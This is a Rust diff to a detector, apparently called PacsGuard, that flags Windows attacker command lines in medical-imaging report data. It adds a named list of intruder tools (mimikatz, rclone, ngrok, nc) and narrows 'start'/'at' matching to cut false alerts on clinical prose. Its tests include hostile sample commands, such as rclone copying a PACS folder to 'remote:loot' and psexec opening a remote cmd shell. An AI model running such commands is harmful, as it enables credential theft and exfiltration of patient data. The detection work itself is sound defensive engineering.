@@ -652,6 +652,43 @@ const RUNNABLE_EXTENSIONS: [&[u8]; 16] = [
     b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc",
 ];
 
+/// Tools of intruders no Windows holds and no launcher rule here names otherwise: a plain
+/// word after `start` or `at`, or a bare `NAME.com`, counts only as one of these or of
+/// the other vocabularies of tools ([`known_tool`]). Review rv41-screen (F1): any word
+/// counted, so report lines (`Start heparin`, `At 2:00 PM`, `Radiology.com`) alerted.
+const INTRUDER_TOOLS: [&[u8]; 16] = [
+    b"mimikatz",
+    b"rclone",
+    b"plink",
+    b"pscp",
+    b"winrar",
+    b"rar",
+    b"7z",
+    b"7za",
+    b"procdump",
+    b"adfind",
+    b"ngrok",
+    b"lazagne",
+    b"rubeus",
+    b"sharphound",
+    b"nc",
+    b"ncat",
+];
+
+/// Whether `word` (a plain name, with or without `.exe`/`.com`) is a tool PacsGuard
+/// names: one of [`INTRUDER_TOOLS`], [`SYSTEM_PROGRAMS`], or a tool of [`BATCH`] that
+/// counts alone (an ambiguous one is judged by its arguments elsewhere). Prose cannot
+/// be told from a plain name otherwise: `Start scan`, `At 10:15 patient`.
+fn known_tool(word: &[u8]) -> bool {
+    let lower = word.to_ascii_lowercase();
+    let name = without_program_extension(&lower);
+    INTRUDER_TOOLS.contains(&name)
+        || SYSTEM_PROGRAMS.contains(&name)
+        || BATCH_TOOLS
+            .iter()
+            .any(|&(tool, counts)| tool == name && counts == Counts::Alone)
+}
+
 /// Whether `name`, a bare name of no tool known here, is one of a `.com` program and
 /// nothing else: letters, digits, `-` and `_`, then the extension (`evil.com`). `.COM`
 /// is first in PATHEXT, so such a name alone on its command runs the file (session 41:
@@ -724,7 +761,7 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         // Neither: what it runs is its first word, a program or a plain name cmd.exe
         // looks for along the PATH (`start mimikatz`; session 41: it was clean).
         return start_runs(&line, chance_bytes).unwrap_or_else(|| {
-            names_program_or_url(token) || hands_a_plain_name(&line, chance_bytes)
+            names_program_or_url(token) || hands_a_plain_name(&line, chance_bytes, NameRule::Known)
         });
     }
     if ARGUED_BATCH.contains(&tool) {
@@ -767,7 +804,7 @@ fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
                 // line's form, never prose's (`CMD /CBD`).
                 let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
                 return runs_command(command, chance_bytes)
-                    || (apart && hands_a_plain_name(command, chance_bytes));
+                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Plain));
             }
             from += part.len() + 1;
         }
@@ -799,7 +836,7 @@ const PLAIN_NAME_MIN_IN_BINARY: usize = 3;
 /// imaging sequence.` alerted; cmd.exe looks for a program `procedure` or
 /// `echo-planar`, which no Windows has). In binary values the name has at least
 /// [`PLAIN_NAME_MIN_IN_BINARY`] letters.
-fn hands_a_plain_name(command: &[u8], chance_bytes: bool) -> bool {
+fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> bool {
     if !command.first().is_some_and(|&b| is_switch_separator(b)) {
         return false;
     }
@@ -815,11 +852,28 @@ fn hands_a_plain_name(command: &[u8], chance_bytes: bool) -> bool {
     // Past the quote closing a quoted name (`/c "payload"`).
     let rest = &command[from + len..];
     let rest = &rest[rest.iter().take_while(|&&b| b == b'"').count()..];
-    plain_program(word)
+    // A tool named here counts whatever its arguments (`start mimikatz foo`, `start ""
+    // rclone copy …`); `/` after the word ended it, so `Start aspirin/clopidogrel` is
+    // the word `aspirin`.
+    if known_tool(word) {
+        return true;
+    }
+    rule == NameRule::Plain
+        && plain_program(word)
         && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY)
         && leading_arguments(rest, chance_bytes)
             .next()
             .is_none_or(command_like_word)
+}
+
+/// Which plain names [`hands_a_plain_name`] counts: after a bare `start` (and `at`'s
+/// time) any word is prose's as often (`Start heparin`), so only a [`known_tool`]; after
+/// `cmd /c`, an empty title or a switch of `start` (a command line's form) a name cmd.exe
+/// looks for along the PATH.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum NameRule {
+    Known,
+    Plain,
 }
 
 /// Whether `word` is a plain name cmd.exe looks for as a program's: a letter, then
@@ -929,7 +983,8 @@ fn start_runs(line: &[u8], chance_bytes: bool) -> Option<bool> {
             let from = span.start.saturating_sub(1);
             return (titled || switched).then(|| {
                 runs_command(&line[span.start..], chance_bytes)
-                    || ((untitled || switched) && hands_a_plain_name(&line[from..], chance_bytes))
+                    || ((untitled || switched)
+                        && hands_a_plain_name(&line[from..], chance_bytes, NameRule::Plain))
             });
         }
         // A switch `start` does not take is an error of its: nothing runs.
@@ -1364,7 +1419,9 @@ fn at_runs(words: &[&[u8]]) -> bool {
         let prints = SYSTEM_PROGRAMS.contains(&program) && !SHOWS_A_WINDOW.contains(&program);
         return !(prints && rest.is_empty());
     }
-    plain_program(&name) && rest.first().is_none_or(|word| command_like_word(word))
+    // Any other word after the time is report prose as often (`At 2:00 PM`, `at 16:45
+    // hours`, review rv41-screen): only a tool named here is scheduled.
+    known_tool(&name)
 }
 
 /// Whether `word`, a line's first word, is the whole UNC path of a program
@@ -5738,7 +5795,9 @@ fn batch_program(
     // `.js` counts only with a command's argument.
     let library = name.len() > 3 && name[name.len() - 3..].eq_ignore_ascii_case(b".js");
     // A bare `.com` counts alone only: a domain name is followed by prose.
-    let com = !runnable && bare_com_name(name);
+    // Of a tool named here only (`mimikatz.com`): `MEDIMAGING.COM` or `Radiology.com`
+    // alone on a report's line is a domain (review rv41-screen).
+    let com = !runnable && bare_com_name(name) && known_tool(name);
     if !((runnable || com) && file_name && name[0] != b'.') {
         return None;
     }
@@ -9530,9 +9589,9 @@ mod lolbin_tests {
             ],
             &[false, true],
         );
-        assert_alerts(&["evil.com", "evil.msc", "evil.com 2>nul"], &[false]);
+        assert_alerts(&["mimikatz.com", "evil.msc", "rclone.com 2>nul"], &[false]);
         // Alone in binary values: as chance bytes make such a line, a warning.
-        for line in ["evil.com", "evil.msc"] {
+        for line in ["mimikatz.com", "evil.msc"] {
             let severity = found(line.as_bytes(), true).map(|found| found.severity);
             assert_eq!(severity, Some(Severity::Warning), "{line}");
         }
@@ -9643,6 +9702,44 @@ mod lolbin_tests {
             "EGENIX.COM SOFTWARE LICENSE",
             "www.example.com",
         ]);
+    }
+
+    /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
+    /// name (`Start heparin`, `At 2:00 PM`), or a domain alone (`Radiology.com`), are
+    /// prose: a plain word after `start`/`at` counts only as a tool named here
+    /// ([`known_tool`]), and `/word` after it makes no switch.
+    #[test]
+    fn a_plain_word_after_start_or_at_counts_only_as_a_known_tool() {
+        assert_clean(&[
+            "Start heparin",
+            "Start anticoagulation",
+            "Start scan",
+            "Start IV",
+            "Start CT",
+            "Start breath-hold",
+            "Start aspirin/clopidogrel",
+            "Start CT/MR",
+            "At 14:32 callback",
+            "at 16:45 hours",
+            "At 2:00 PM",
+            "At 12:00 noon",
+            "At 10:15 patient",
+            "MEDIMAGING.COM",
+            "Radiology.com",
+        ]);
+        assert_alerts(
+            &[
+                "start mimikatz",
+                "start mimikatz foo",
+                "start rclone copy C:\\PACS remote:loot",
+                "start \"\" rclone copy C:\\PACS remote:loot",
+                "start /b psexec \\\\198.51.100.7 cmd",
+                "at 23:00 mimikatz foo",
+                "at 23:00 rclone copy C:\\PACS remote:",
+            ],
+            &[false, true],
+        );
+        assert_alerts(&["mimikatz.com", "rclone.com 2>nul"], &[false]);
     }
 
     /// Every ambiguous tool is judged by a rule of its arguments: its switches, its
